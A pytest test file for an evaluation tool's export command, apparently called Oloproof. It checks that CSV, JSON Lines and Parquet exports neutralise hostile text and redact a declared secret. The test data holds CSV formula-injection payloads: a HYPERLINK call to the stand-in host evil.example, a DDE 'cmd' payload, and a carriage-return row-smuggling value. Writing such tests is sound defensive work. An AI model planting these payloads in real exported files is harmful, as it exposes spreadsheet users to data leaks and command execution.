"""`oloproof export --format` with a system whose outputs are hostile text, through the real CLI.

A system's output, its error messages and the cases' ids and metadata are text someone else
wrote. Each table is read back by a reader that knows nothing of Oloproof (Python's csv module,
pyarrow, json) and compared with what `oloproof inspect RUN --case ID --json` shows the ledger
holds. Before:

- a metadata value holding a carriage return without a line feed was written unquoted in the
  CSV, so every reader started a new row there, and the row it started opened with the
  attacker's `@SUM(…)`;
- a case id, a metadata value or an error message that opens with `=`, `+`, `-` or `@` was
  written as it is, a formula for any spreadsheet that opens the file (`=HYPERLINK(…)` fetches
  a URL);
- a metadata key holding an integer beyond 64 bits, or one beyond 2**53 beside a fraction,
  stopped the Parquet export with a Python traceback and exit 1 (the exit code of a FAILed
  rule);
- an output holding U+2028, U+2029 or U+0085 was written raw in a JSON Lines row, which
  Python's `str.splitlines` (and JavaScript's line readers) split into broken lines;
- the tables of an interrupted run held only the cases that ran, so a mean over them read as
  the whole run's; only a warning on stderr said otherwise. (They now list the cases that did
  not run, named from the cases file, and a declared secret in such an id is replaced there as
  the ledger replaces it in the ids of the cases that ran.)
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from tests.support import HOLDING_APP, interrupted_while_held, oloproof, write_project

SECRET = "sk-probe-7f3a9c21"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'

APP = r"""
import os

OUTPUTS = {
    "formula": '=HYPERLINK("http://evil.example/?leak","click")',
    "dde": "=cmd|' /C calc'!A0",
    "quote": "'already quoted",
    "tab": "\t=1+1",
    "lines": "a\u2028b\u2029c\x85d\ne\r\nf",
    "nul": "a\x00b",
    "numberlike": "007",
    "negative": -0.5,
    "secret": "the key is " + os.environ["PROBE_SECRET"],
}


def answer(case):
    if case["k"] == "raise":
        raise RuntimeError('-2+3 =HYPERLINK("http://evil.example/?err","x")')
    return {"answer": OUTPUTS[case["k"]]}
"""
CONFIG = """\
system: {name: hostile, version: "1", callable: app:answer}
dataset: cases.jsonl
policy: policy.yaml
secrets: [PROBE_SECRET]
evaluators:
  - {type: contains, criterion: answered, field: answer, expected_field: answer}
"""
POLICY = "version: 1\nrules:\n  - {id: answers, metric: answered, min: 0.5}\n"
# (case id, the k its system reads, metadata value m)
CASES: list[tuple[str, str, Any]] = [
    (HYPERLINK, "formula", "x\r@SUM(1+1)*cmd|' /C calc'!A0"),
    ("-1", "dde", -0.5),
    ("@id", "quote", "-0.5"),
    ("+id", "tab", "'quoted"),
    ("lines", "lines", " =1+1"),
    ("nul", "nul", "a\x00b"),
    ("numberlike", "numberlike", "007"),
    ("negative", "negative", ""),
    ("secret", "secret", None),
    ("raise", "raise", "plain"),
]


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    root = write_project(
        tmp_path_factory.mktemp("hostile") / "p",
        app=APP,
        config=CONFIG,
        policy=POLICY,
        cases=(
            {"id": i, "input": {"k": k}, "expected": {"answer": "x"}, "metadata": {"m": m}}
            for i, k, m in CASES
        ),
    )
    env = {"PROBE_SECRET": SECRET}
    ran = oloproof("run", cwd=root, env=env)
    assert ran.code in (1, 3), ran.out + ran.err
    run_id = ran.lines[0].split()[1]
    for fmt in ("csv", "jsonl", "parquet"):
        done = oloproof("export", run_id, "--format", fmt, "--output", fmt, cwd=root, env=env)
        assert done.code == 0, done.err
    return root, run_id


def _stored(root: Path, run_id: str, case_id: str) -> dict[str, Any]:
    done = oloproof("inspect", run_id, "--case", case_id, "--json", cwd=root)
    assert done.code == 0, done.err
    return dict(json.loads(done.out))


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _unquoted(cell: str) -> str:
    """A CSV cell's text as recorded: one leading ``'`` removed (docs/export.md)."""
    return cell[1:] if cell.startswith("'") else cell


def test_csv_rows_stay_whole_and_no_cell_is_a_formula(exported: tuple[Path, str]) -> None:
    root, run_id = exported
    cases = _csv(root / "csv" / "cases.csv")
    verdicts = _csv(root / "csv" / "verdicts.csv")
    # One row per case: a carriage return inside a cell no longer starts a row.
    assert [_unquoted(r["case_id"]) for r in cases] == [c[0] for c in CASES]
    assert [_unquoted(r["case_id"]) for r in verdicts] == [c[0] for c in CASES]
    for table in (cases, verdicts):
        for row in table:
            for column, cell in row.items():
                formula = cell.lstrip().startswith(("=", "+", "-", "@"))
                assert not formula or _is_number(cell), (column, cell)
                assert not cell.startswith(("\t", "\r")), (column, cell)
    for row in cases:
        stored = _stored(root, run_id, _unquoted(row["case_id"]))
        m = stored["metadata"]["m"]
        # Text: exactly what was recorded, once a leading ' is dropped. Numbers are numbers.
        if isinstance(m, str):
            assert _unquoted(row["metadata.m"]) == m
        else:
            assert row["metadata.m"] == ("" if m is None else str(m))
        if stored.get("error"):  # it returned nothing: no output, not the null of a None
            assert row["output"] == ""
        else:
            assert json.loads(_unquoted(row["output"])) == stored["output"]
        message = (stored["error"] or {}).get("message")
        assert _unquoted(row["error_message"]) == (message or "")
    by_id = {_unquoted(r["case_id"]): r for r in cases}
    assert by_id["-1"]["case_id"] == "'-1"
    assert by_id["-1"]["metadata.m"] == "-0.5"  # the number -0.5, untouched
    assert by_id["@id"]["metadata.m"] == "'-0.5"  # the text "-0.5"
    assert by_id["negative"]["output"] == '{"answer": -0.5}'
    assert by_id["raise"]["error_message"].startswith("'-2+3 ")
    assert [r["value"] for r in verdicts if r["case_id"] == "raise"] == [""]


def test_parquet_and_jsonl_hold_the_recorded_values(exported: tuple[Path, str]) -> None:
    root, run_id = exported
    text = (root / "jsonl" / "cases.jsonl").read_text(encoding="utf-8")
    # Every line separator a reader knows ends a row only where a row ends.
    lines = text.splitlines()
    assert len(lines) == len(CASES)
    from_jsonl = [json.loads(line) for line in lines]
    from_parquet = pq.read_table(root / "parquet" / "cases.parquet").to_pylist()
    for row_j, row_p, (case_id, _, m) in zip(from_jsonl, from_parquet, CASES, strict=True):
        stored = _stored(root, run_id, case_id)
        assert row_j["case_id"] == row_p["case_id"] == case_id
        if stored.get("error"):  # it returned nothing: no output, not the null of a None
            assert row_j["output"] is None and row_p["output"] is None
        else:
            assert json.loads(row_j["output"]) == json.loads(row_p["output"]) == stored["output"]
        assert row_j["metadata.m"] == m
        # m mixes text and a number: Parquet holds the column as JSON text.
        assert row_p["metadata.m"] == (None if m is None else json.dumps(m, ensure_ascii=False))


def test_no_export_holds_the_declared_secret(exported: tuple[Path, str]) -> None:
    root, _ = exported
    files = [p for fmt in ("csv", "jsonl", "parquet") for p in sorted((root / fmt).iterdir())]
    assert len(files) == 6
    for path in files:
        assert SECRET.encode() not in path.read_bytes(), path
    assert "the key is [redacted]" in (root / "jsonl" / "cases.jsonl").read_text()


BIG_APP = "def answer(case):\n    return {'answer': 'a'}\n"
BIG_CONFIG = """\
system: {name: big, version: "1", callable: app:answer}
dataset: cases.jsonl
policy: policy.yaml
evaluators:
  - {type: contains, criterion: answered, field: answer, expected_field: answer}
"""


def test_parquet_holds_integers_arrow_cannot_type_as_json_text(tmp_path: Path) -> None:
    # Before: a Python traceback, exit 1, and no file.
    metadata = [
        {"huge": 2**64 - 1, "exact": 2**53 + 1, "count": 3},
        {"huge": 1, "exact": 0.5, "count": -4},
    ]
    root = write_project(
        tmp_path / "p",
        app=BIG_APP,
        config=BIG_CONFIG,
        policy=POLICY,
        cases=(
            {"id": f"c{i}", "input": {}, "expected": {"answer": "a"}, "metadata": m}
            for i, m in enumerate(metadata)
        ),
    )
    assert oloproof("run", cwd=root).code == 3  # two cases: too few to decide
    done = oloproof("export", "latest", "--format", "parquet", "--output", "out", cwd=root)
    assert (done.code, done.err) == (0, "")
    table = pq.read_table(root / "out" / "cases.parquet")
    assert table.to_pydict()["metadata.huge"] == [str(2**64 - 1), "1"]
    assert table.to_pydict()["metadata.exact"] == [str(2**53 + 1), "0.5"]
    assert table.to_pydict()["metadata.count"] == [3, -4]
    assert str(table.schema.field("metadata.count").type) == "int64"


INTERRUPTED_APP = (
    HOLDING_APP
    + """

def answer(case):
    if case["q"] == "q5":  # the run is interrupted here
        hold("sleeping")
    return {"answer": case["q"]}
"""
)


# The planned ids, one of them holding the declared secret, and the same as the tables hold them.
# The run is made with the secret unset (a run where it is set refuses an id holding it); the
# export, with it set, keeps it out of the ids it reads from the cases file for unrun cases.
PLANNED = [f"c{i}" for i in range(9)] + [f"c9-{SECRET}"]
LISTED = [*PLANNED[:-1], "c9-[redacted]"]


@pytest.fixture(scope="module")
def interrupted(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    root = write_project(
        tmp_path_factory.mktemp("interrupted") / "p",
        app=INTERRUPTED_APP,
        config="system: {name: toy, version: '1', callable: app:answer}\ndataset: cases.jsonl\n"
        "policy: policy.yaml\nconcurrency: 1\nsecrets: [PROBE_SECRET]\nevaluators:\n"
        "  - {type: contains, criterion: echo, field: answer, expected_field: answer}\n",
        policy="version: 1\nrules:\n  - {id: floor, metric: echo, min: 0.5}\n",
        cases=(
            {"id": case_id, "input": {"q": f"q{i}"}, "expected": {"answer": f"q{i}"}}
            for i, case_id in enumerate(PLANNED)
        ),
    )
    return root, interrupted_while_held(root, "sleeping\n")


def _tables(folder: Path, fmt: str) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    if fmt == "jsonl":
        read = [
            [json.loads(x) for x in (folder / f"{n}.jsonl").read_text().splitlines()]
            for n in ("verdicts", "cases")
        ]
    elif fmt == "parquet":
        read = [pq.read_table(folder / f"{n}.parquet").to_pylist() for n in ("verdicts", "cases")]
    else:
        read = [
            [{k: v or None for k, v in r.items()} for r in _csv(folder / f"{n}.csv")]
            for n in ("verdicts", "cases")
        ]
    return read[0], read[1]


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_tables_of_an_interrupted_run_list_the_cases_that_did_not_run(
    interrupted: tuple[Path, str], fmt: str
) -> None:
    root, run_id = interrupted
    report = json.loads(oloproof("inspect", run_id, "--json", cwd=root).out)
    (metric,) = report["metrics"]
    unrun = metric["missing_reasons"]["not_run"]
    ran = report["cases"]
    assert unrun > 0 and ran + unrun == 10
    env = {"PROBE_SECRET": SECRET}
    done = oloproof("export", run_id, "--format", fmt, "--output", fmt, cwd=root, env=env)
    assert (done.code, done.err) == (
        0,
        f"warning: {run_id} is INTERRUPTED: {unrun} of its 10 planned cases did not run; "
        "the tables list them with status not_run\n",
    )
    verdicts, cases = _tables(root / fmt, fmt)
    assert [r["case_id"] for r in cases] == LISTED
    assert [str(r["line"]) for r in cases] == [str(i) for i in range(1, 11)]
    not_run = [r for r in cases if r["status"] == "not_run"]
    assert [r["case_id"] for r in not_run] == LISTED[ran:]
    assert all(r["output"] is None and r["verdict.echo"] is None for r in not_run)
    missing = [r for r in verdicts if r["reason"] == "not_run"]
    assert [(r["case_id"], r["case_status"], r["status"]) for r in missing] == [
        (case_id, "not_run", "missing") for case_id in LISTED[ran:]
    ]
    for path in (root / fmt).iterdir():
        assert SECRET.encode() not in path.read_bytes(), path
    assert sum(r["status"] == "missing" for r in verdicts) == metric["missing"]


def test_cases_whose_ids_cannot_be_known_are_still_rows(interrupted: tuple[Path, str]) -> None:
    root, run_id = interrupted
    cases_file = root / "cases.jsonl"
    kept = cases_file.read_text()
    cases_file.write_text(kept + '{"id": "new", "input": {"q": "n"}, "expected": {}}\n')
    try:
        done = oloproof("export", run_id, "--format", "jsonl", "--output", "changed", cwd=root)
    finally:
        cases_file.write_text(kept)
    assert done.code == 0, done.err
    verdicts, cases = _tables(root / "changed", "jsonl")
    not_run = [r for r in cases if r["status"] == "not_run"]
    assert not_run and all(r["case_id"] is None and r["line"] is None for r in not_run)
    assert len(cases) == 10
    assert [r["reason"] for r in verdicts[-len(not_run) :]] == ["not_run"] * len(not_run)


def test_the_bundle_keeps_one_case_a_line(exported: tuple[Path, str]) -> None:
    root, run_id = exported
    done = oloproof("export", run_id, cwd=root)
    assert done.code == 0, done.err
    text = (root / ".oloproof" / "bundles" / run_id / "cases.jsonl").read_text(encoding="utf-8")
    records = [json.loads(line) for line in text.splitlines()]  # was 13 lines, 3 of them broken
    assert [r["id"] for r in records] == [c[0] for c in CASES]
    assert records[4]["output"] == {"answer": "a\u2028b\u2029c\x85d\ne\r\nf"}
